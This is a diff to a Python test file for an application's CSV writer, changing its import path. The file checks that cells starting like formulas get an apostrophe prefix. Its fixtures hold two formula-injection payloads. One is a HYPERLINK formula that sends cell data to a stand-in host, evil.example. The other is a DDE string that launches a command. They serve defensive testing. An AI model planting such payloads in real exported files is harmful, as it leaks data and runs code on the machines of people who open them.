@@ -1,6 +1,6 @@
 """No CSV the application serves carries a cell a spreadsheet would run as a formula: text
 typed as `=HYPERLINK(...)` (a name, an address, a voucher, a username tried at the login)
-comes out with a leading apostrophe, through the one CSV writer (anju.csvfile)."""
+comes out with a leading apostrophe, through the one CSV writer (anju.kit.csvfile)."""
 
 import csv
 import io
@@ -14,7 +14,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from anju.conftest import sign_in
-from anju.csvfile import FORMULA_STARTS, safe_cell, stream_csv
+from anju.kit.csvfile import FORMULA_STARTS, safe_cell, stream_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
 CALC = "=cmd|' /C calc'!A0"
